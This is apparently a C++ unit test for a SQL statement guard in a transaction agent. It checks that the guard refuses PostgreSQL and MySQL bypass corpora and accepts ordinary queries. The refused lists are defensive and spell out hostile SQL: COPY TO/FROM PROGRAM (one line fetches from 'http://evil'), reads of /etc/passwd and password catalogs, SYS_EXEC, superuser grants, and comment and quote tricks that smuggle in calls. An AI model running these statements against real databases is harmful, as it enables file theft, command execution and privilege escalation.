// The statement policy against corpora of ordinary statements (accepted) and of attempts to get
// past it (refused), per dialect. Each refused text names what it tries.
#include "common/statement_guard.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "common/sql_lexer.h"

namespace txn::common {
namespace {

void ExpectRefused(const std::vector<std::string>& corpus, SqlDialect dialect) {
  for (const std::string& sql : corpus) {
    absl::Status s = CheckStatement(sql, dialect);
    EXPECT_EQ(s.code(), absl::StatusCode::kInvalidArgument) << "accepted: " << sql;
    EXPECT_EQ(s.message().rfind("statement refused: ", 0), 0u) << s.message();
  }
}

void ExpectAccepted(const std::vector<std::string>& corpus, SqlDialect dialect) {
  for (const std::string& sql : corpus) {
    absl::Status s = CheckStatement(sql, dialect);
    EXPECT_TRUE(s.ok()) << sql << " -> " << s.message();
  }
}

const std::vector<std::string> kPostgresBypasses = {
    // programs and server files
    "COPY (SELECT 1) TO PROGRAM 'id > /tmp/owned'",
    "copy stock to '/tmp/stock.csv'",
    "COPY stock FROM PROGRAM 'curl http://evil/x'",
    "/* note */ COPY stock TO STDOUT",
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT pg_read_binary_file('/etc/passwd')",
    "SELECT * FROM pg_ls_dir('/')",
    "SELECT pg_stat_file('/etc/passwd')",
    "SELECT lo_export(123, '/tmp/x')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT lo_export(lo_from_bytea(0, 'x'), '/tmp/y')",
    "SELECT \"pg_read_file\"('/etc/passwd')",
    "SELECT pg_catalog . pg_read_file ('/etc/passwd')",
    "SELECT PG_READ_FILE /* hidden */ ('/etc/passwd')",
    "WITH x AS (SELECT pg_read_file('/etc/passwd')) SELECT * FROM x",
    "EXPLAIN ANALYZE SELECT pg_read_file('/etc/passwd')",
    "LOAD 'plpython3u'",
    // code the server runs now or later
    "DO $$BEGIN PERFORM pg_sleep(1); END$$",
    "DO LANGUAGE plpgsql $x$ BEGIN END $x$",
    "do 'begin end'",
    "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql",
    "CREATE OR REPLACE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$BEGIN END$$",
    "CREATE PROCEDURE p() LANGUAGE sql AS $$ SELECT 1 $$",
    "CREATE EXTENSION dblink",
    "CREATE TRIGGER t AFTER INSERT ON x FOR EACH ROW EXECUTE FUNCTION f()",
    "CREATE CONSTRAINT TRIGGER t AFTER INSERT ON x FOR EACH ROW EXECUTE FUNCTION f()",
    "CREATE RULE r AS ON INSERT TO t DO ALSO NOTIFY c",
    "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()",
    "CREATE LANGUAGE plperlu",
    "CREATE TRUSTED PROCEDURAL LANGUAGE plx HANDLER h",
    "SELECT query_to_xml('select pg_read_file(''/etc/passwd'')', true, false, '')",
    "SELECT ts_stat('select pg_read_file(''/x'')')",
    "SELECT ts_rewrite('a'::tsquery, 'select pg_read_file(''/x'')')",
    // session state that would outlive the transaction
    "SELECT set_config('search_path', 'pg_catalog', false)",
    "SELECT set_config('role', 'postgres', true)",
    "SELECT pg_catalog.set_config('a.b', 'c', false)",
    "SELECT \"set_config\"('x.y', '1', false)",
    "SET search_path = pg_catalog",
    "SET SESSION search_path TO pg_catalog",
    "set statement_timeout = 0",
    "SET TIME ZONE 'UTC'",
    "SET LOCAL search_path = evil",
    "SET LOCAL ROLE postgres",
    "SET ROLE postgres",
    "SET SESSION AUTHORIZATION postgres",
    "SET LOCAL SESSION AUTHORIZATION postgres",
    "SET LOCAL \"role\" = postgres",
    "SET LOCAL statement_timeout = 0",
    "SET LOCAL lock_timeout = 0",
    "SET LOCAL standard_conforming_strings = off",
    "SET LOCAL myapp.flag = 1",
    "RESET ALL",
    "RESET ROLE",
    "DISCARD ALL",
    "PREPARE p AS SELECT 1",
    "EXECUTE p",
    "DEALLOCATE ALL",
    "DECLARE c CURSOR WITH HOLD FOR SELECT 1",
    "SELECT pg_advisory_lock(1)",
    "SELECT pg_try_advisory_lock_shared(1)",
    "CREATE TEMP TABLE t (a int)",
    "create temporary table t (a int)",
    "CREATE GLOBAL TEMPORARY TABLE t (a int)",
    "SELECT * INTO TEMP t FROM stock",
    "SELECT * INTO LOCAL TEMPORARY t FROM stock",
    "LISTEN c",
    "NOTIFY c",
    "SELECT pg_notify('c', 'x')",
    // other databases, the server, privileges
    "SELECT dblink_exec('dbname=postgres', 'CREATE ROLE x SUPERUSER')",
    "SELECT * FROM dblink('dbname=other', 'select 1') AS t(a int)",
    "SELECT dblink_connect('c', 'host=10.0.0.1')",
    "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw",
    "CREATE FOREIGN TABLE f (a int) SERVER s",
    "CREATE USER MAPPING FOR CURRENT_USER SERVER s",
    "IMPORT FOREIGN SCHEMA public FROM SERVER s INTO x",
    "CREATE ROLE evil SUPERUSER",
    "ALTER ROLE postgres PASSWORD 'x'",
    "ALTER USER postgres WITH SUPERUSER",
    "ALTER DATABASE orders SET search_path = evil",
    "ALTER SYSTEM SET shared_preload_libraries = 'x'",
    "ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO public",
    "GRANT ALL ON stock TO public",
    "REVOKE ALL ON stock FROM app",
    "SELECT pg_terminate_backend(1234)",
    "SELECT pg_cancel_backend(1234)",
    "SELECT pg_reload_conf()",
    "SELECT pg_create_logical_replication_slot('s', 'test_decoding')",
    "SELECT rolpassword FROM pg_authid",
    "SELECT * FROM pg_catalog.pg_shadow",
    "LOCK TABLE stock IN ACCESS EXCLUSIVE MODE",
    "lock stock",
    "VACUUM stock",
    "CHECKPOINT",
    // transaction control
    "COMMIT",
    "  begin",
    "ROLLBACK",
    "SAVEPOINT a",
    "RELEASE SAVEPOINT a",
    "PREPARE TRANSACTION 'x'",
    "COMMIT PREPARED 'x'",
    "START TRANSACTION",
    "END",
    "ABORT",
    "/* x */ COMMIT",
    "SET autocommit = 1",
    "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE",
    "SET LOCAL TRANSACTION READ ONLY",
    "SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY",
    // reading the text differently from the server
    "SELECT 1; SELECT 2",
    "SELECT 1; COPY stock TO '/tmp/x'",
    "SELECT $q$ ; $q$; COMMIT",
    // E'\'' is one quote: what follows is code, not string.
    "SELECT E'\\'', pg_read_file('/etc/passwd'), ''",
    // `$` inside an identifier does not open a dollar quote.
    "SELECT 1 AS a$$, pg_read_file('/etc/passwd') AS b$$",
    // With standard_conforming_strings on, 'a\' ends at the second quote.
    "SELECT 'a\\', pg_read_file('/etc/passwd'), 'b\\'",
    "SELECT U&'\\0070g_read_file'",
    "SELECT U&\"pg_read_file\"('x')",
    "SELECT 'unterminated",
    "SELECT $a$ unterminated",
    "SELECT 1 /* /* nested */ still a comment",
    // found in review: \r ends a -- comment in PostgreSQL
    "SELECT 1 --\r, set_config('role','none',true), pg_read_file('/etc/passwd')",
    "CREATE --\rFUNCTION f() RETURNS void LANGUAGE sql AS $f$ SELECT 1 $f$",
    // an E'' string continued after a newline keeps its backslash escapes
    "SELECT E'x'\n'\\' ', '\\' , pg_read_file($p$/etc/passwd$p$) , ' --'",
    // pg_settings' rule calls set_config(..., false); catalogs are not data
    "UPDATE pg_settings SET setting = 'none' WHERE name = 'role'",
    "SELECT * FROM pg_settings",
    "UPDATE pg_proc SET prosrc = 'x' WHERE proname = 'f'",
    "DELETE FROM pg_catalog.pg_class WHERE relname = 'acct'",
    "DROP OWNED BY CURRENT_USER",
    "DROP SCHEMA public CASCADE",
    "ALTER SCHEMA public RENAME TO gone",
    // the agent's proof of outcomes
    "INSERT INTO txcoord_markers (gid) VALUES ('txc_n1-1-1-1_0')",
    "DELETE FROM public.\"txcoord_saga_barrier\"",
    "",
    "   ",
    "-- only a comment",
};

const std::vector<std::string> kPostgresOrdinary = {
    "UPDATE stock SET qty = qty - $1 WHERE sku = $2 AND qty >= $1",
    "insert into orders(id) values ($1);",
    "INSERT INTO orders (id) VALUES ($1) RETURNING id",
    "SELECT 'BEGIN; COMMIT' AS s",
    "-- comment\nSELECT 1",
    "SELECT \"commit\" FROM t",
    "SELECT $$;COMMIT$$",
    "SELECT $tag$ pg_read_file('x') $tag$",
    "SELECT 'pg_read_file(''x'')'",
    "/* a /* b */ c */ SELECT 1",
    "SELECT E'it\\'s'",
    "SELECT 'C:\\path\\file'",
    "SET LOCAL work_mem = '64MB'",
    "SET LOCAL TIME ZONE 'UTC'",
    "set local enable_seqscan = off",
    "SET CONSTRAINTS ALL DEFERRED",
    "SELECT pg_advisory_xact_lock(1)",
    "SELECT pg_sleep(0.1)",
    "SELECT current_setting('work_mem')",
    "CREATE TABLE audit (id int PRIMARY KEY, note text DEFAULT 'x')",
    "CREATE TABLE event (id int)",
    "CREATE INDEX ON audit (note)",
    "CREATE UNIQUE INDEX audit_note ON audit (note)",
    "ALTER TABLE audit ADD COLUMN at timestamptz",
    "DROP TABLE IF EXISTS audit",
    "INSERT INTO temp VALUES (1)",
    "SELECT a::text FROM t WHERE b = ANY($1::int[])",
    "WITH moved AS (DELETE FROM a RETURNING *) INSERT INTO b SELECT * FROM moved",
    "SELECT * FROM stock FOR UPDATE SKIP LOCKED",
    "TRUNCATE audit",
    "SELECT nextval('seq')",
};

const std::vector<std::string> kMysqlBypasses = {
    // executable comments and lexing differences
    "/*!COMMIT*/ WORK",
    "/*!50000 SET autocommit=1 */",
    "/*M!100000 COMMIT */",
    "SELECT 1 /*! , LOAD_FILE('/etc/passwd') */",
    "SELECT 1 /*!99999 UNION SELECT LOAD_FILE('/etc/passwd') */",
    // `--x` is not a comment: 1 - -1, then the call
    "SELECT 1 --1, LOAD_FILE(0x2f6574632f706173737764)",
    // With NO_BACKSLASH_ESCAPES, 'a\' ends at the second quote and the call is code.
    "SELECT 'a\\' , LOAD_FILE(0x2f) , ' -- '",
    "SELECT '\\'; COMMIT; -- '",
    "SELECT 1 # comment\n; COMMIT",
    "SELECT 1; COMMIT",
    "SELECT 'unterminated",
    "SELECT 1 /* unterminated",
    // found in review: a double-quoted file name, a keyword glued to a number, ANSI_QUOTES
    "SELECT * FROM acct INTO OUTFILE \"/tmp/x\"",
    "SELECT 1e1INTO OUTFILE '/tmp/x'",
    "SELECT 1 AS \"\\\", '\\' ', load_file(0x2f6574632f706173737764), ' #'#\"",
    "SELECT 1 --\r, LOAD_FILE('/etc/passwd')",
    "INSERT INTO txcoord_xa_markers (gid) VALUES (?)",
    "UPDATE `txcoord_3pc` SET state = 'C'",
    "",
    // session state that would outlive the transaction
    "SET @@session.autocommit=1",
    "SET @a=1, autocommit=1",
    "SET @@autocommit := 1",
    "SET SESSION transaction_isolation='READ-UNCOMMITTED'",
    "SET autocommit=1",
    "set @x = 1",
    "SET NAMES latin1",
    "SET sql_mode = 'NO_BACKSLASH_ESCAPES'",
    "SET STATEMENT max_statement_time=0 FOR SELECT 1",
    "SET PASSWORD = PASSWORD('x')",
    "SET GLOBAL general_log = 1",
    "SET ROLE admin",
    "SELECT @a := 1",
    "SELECT 1 INTO @a",
    "SELECT balance FROM accounts WHERE id = 1 INTO @b",
    "SELECT GET_LOCK('x', 10)",
    "DO GET_LOCK('x', 0)",
    "SELECT RELEASE_ALL_LOCKS()",
    "USE mysql",
    "HANDLER t OPEN",
    "PREPARE s FROM 'COMMIT'",
    "EXECUTE s",
    "DEALLOCATE PREPARE s",
    "CREATE TEMPORARY TABLE t (a int)",
    // server files and programs
    "SELECT LOAD_FILE('/etc/passwd')",
    "SELECT load_file ('/etc/passwd')",
    "SELECT `load_file`('/etc/passwd')",
    "INSERT INTO t VALUES (LOAD_FILE('/etc/passwd'))",
    "SELECT \"x\" , LOAD_FILE(\"/etc/passwd\")",
    "SELECT * FROM t INTO OUTFILE '/tmp/x'",
    "SELECT 1 INTO DUMPFILE '/tmp/x'",
    "SELECT * INTO OUTFILE '/var/lib/mysql/x' FROM t",
    "LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
    "LOAD DATA LOCAL INFILE 'x' INTO TABLE t",
    "LOAD XML INFILE 'x' INTO TABLE t",
    "SELECT SYS_EXEC('id')",
    "CREATE FUNCTION sys_exec RETURNS int SONAME 'lib_mysqludf_sys.so'",
    "INSTALL SONAME 'ha_connect'",
    // the server's own schemas, the server, privileges
    "SELECT * FROM mysql.user",
    "SELECT * FROM `mysql`.`user`",
    "SELECT * FROM mysql . user",
    "UPDATE performance_schema.setup_instruments SET enabled = 'NO'",
    "SELECT * FROM sys.session",
    "GRANT ALL ON *.* TO x",
    "REVOKE ALL ON *.* FROM x",
    "FLUSH PRIVILEGES",
    "KILL 1",
    "KILL QUERY 1",
    "SHUTDOWN",
    "BINLOG 'xxx'",
    "CHANGE MASTER TO MASTER_HOST='evil'",
    "RESET MASTER",
    "PURGE BINARY LOGS TO 'x'",
    "SELECT MASTER_POS_WAIT('f', 4)",
    // implicit commits and transaction control
    "CALL p()",
    "CREATE TABLE t (a int)",
    "DROP TABLE t",
    "ALTER TABLE t ADD b int",
    "TRUNCATE t",
    "RENAME TABLE a TO b",
    "LOCK TABLES t WRITE",
    "UNLOCK TABLES",
    "ANALYZE TABLE t",
    "XA START 'x'",
    "XA COMMIT 'x'",
    "COMMIT",
    "BEGIN",
    "START TRANSACTION",
    "ROLLBACK",
    "SAVEPOINT a",
    "RELEASE SAVEPOINT a",
};

const std::vector<std::string> kMysqlOrdinary = {
    "UPDATE acct SET bal = bal + ? WHERE id = ?",
    "SELECT 'it''s', \"a\"",
    "SELECT 'BEGIN; COMMIT'",
    "SELECT * FROM t WHERE a = ? FOR UPDATE",
    "SELECT LAST_INSERT_ID()",
    "SELECT LAST_INSERT_ID(5)",
    "SELECT 1 -- comment",
    "SELECT 1 # comment",
    "SELECT 5--1",
    "SELECT @@session.tx_isolation",
    "DO SLEEP(0)",
    "SELECT /*+ MAX_EXECUTION_TIME(1000) */ 1",
    "SELECT `weird``name` FROM t",
    "INSERT INTO ledger VALUES (?, ?, ?) ON DUPLICATE KEY UPDATE amount = VALUES(amount)",
    "SELECT * FROM t LOCK IN SHARE MODE",
    "SELECT 'load_file(1)'",
    "DELETE FROM t WHERE id = ?",
};

TEST(StatementGuard, PostgresBypassCorpusIsRefused) {
  EXPECT_GE(kPostgresBypasses.size(), 60u);
  ExpectRefused(kPostgresBypasses, SqlDialect::kPostgres);
}

TEST(StatementGuard, PostgresOrdinaryStatementsAreAccepted) {
  ExpectAccepted(kPostgresOrdinary, SqlDialect::kPostgres);
}

TEST(StatementGuard, MysqlBypassCorpusIsRefused) {
  EXPECT_GE(kMysqlBypasses.size(), 60u);
  ExpectRefused(kMysqlBypasses, SqlDialect::kMysql);
}

TEST(StatementGuard, MysqlOrdinaryStatementsAreAccepted) {
  ExpectAccepted(kMysqlOrdinary, SqlDialect::kMysql);
}

TEST(StatementGuard, RefusalsSayWhy) {
  EXPECT_EQ(CheckStatement("COPY (SELECT 1) TO PROGRAM 'id'", SqlDialect::kPostgres).message(),
            "statement refused: COPY reads and writes server files and runs programs");
  EXPECT_EQ(CheckStatement("/*!COMMIT*/ WORK", SqlDialect::kMysql).message(),
            "statement refused: MySQL executable comments (/*! ... */) are refused: the server "
            "runs their text");
  EXPECT_EQ(CheckStatement("SET search_path = x", SqlDialect::kPostgres).message(),
            "statement refused: SET outlives the transaction (the agent's pooled session would "
            "keep it); use SET LOCAL");
}

TEST(StatementGuard, GenericRefusesOnlyWhatEveryDialectRefuses) {
  EXPECT_TRUE(CheckStatement("CREATE TABLE t(a int)", SqlDialect::kGeneric).ok());
  EXPECT_TRUE(CheckStatement("SELECT $$;COMMIT$$", SqlDialect::kGeneric).ok());
  EXPECT_TRUE(CheckStatement("SELECT 1 # 2", SqlDialect::kGeneric).ok());
  EXPECT_TRUE(CheckStatement("SELECT 'a\\'; b'", SqlDialect::kGeneric).ok());
  EXPECT_FALSE(CheckStatement("COMMIT", SqlDialect::kGeneric).ok());
  EXPECT_FALSE(CheckStatement("SELECT 1; SELECT 2", SqlDialect::kGeneric).ok());
}

TEST(StatementGuard, LimitsAreNamed) {
  const std::string huge = "SELECT '" + std::string(kMaxStatementBytes, 'x') + "'";
  absl::Status s = CheckStatement(huge, SqlDialect::kPostgres);
  EXPECT_EQ(s.code(), absl::StatusCode::kInvalidArgument);
  EXPECT_NE(s.message().find("bytes per statement"), absl::string_view::npos) << s.message();
  EXPECT_TRUE(CheckParameterCount(kMaxStatementParameters).ok());
  EXPECT_EQ(CheckParameterCount(kMaxStatementParameters + 1).code(),
            absl::StatusCode::kInvalidArgument);
}

TEST(SqlLexer, ReadsEachDialectsQuotesAndComments) {
  SqlLex pg = LexSql("SELECT E'\\'' , \"a\"\"b\" /* x /* y */ z */ $1", SqlDialect::kPostgres,
                     false);
  ASSERT_EQ(pg.tokens.size(), 6u);
  EXPECT_EQ(pg.tokens[1].text, "E");
  EXPECT_EQ(pg.tokens[2].kind, SqlToken::Kind::kString);
  EXPECT_EQ(pg.tokens[4].kind, SqlToken::Kind::kQuotedName);
  EXPECT_EQ(pg.tokens[4].text, "A\"B");
  EXPECT_EQ(pg.tokens[5].kind, SqlToken::Kind::kParameter);
  SqlLex my = LexSql("SELECT 5--1 -- c\n, `x` ?", SqlDialect::kMysql, true);
  ASSERT_EQ(my.tokens.size(), 8u);
  EXPECT_EQ(my.tokens[2].text, "-");
  EXPECT_EQ(my.tokens[3].text, "-");
  EXPECT_EQ(my.tokens[6].kind, SqlToken::Kind::kQuotedName);
  EXPECT_EQ(my.tokens[7].kind, SqlToken::Kind::kParameter);
}

}  // namespace
}  // namespace txn::common
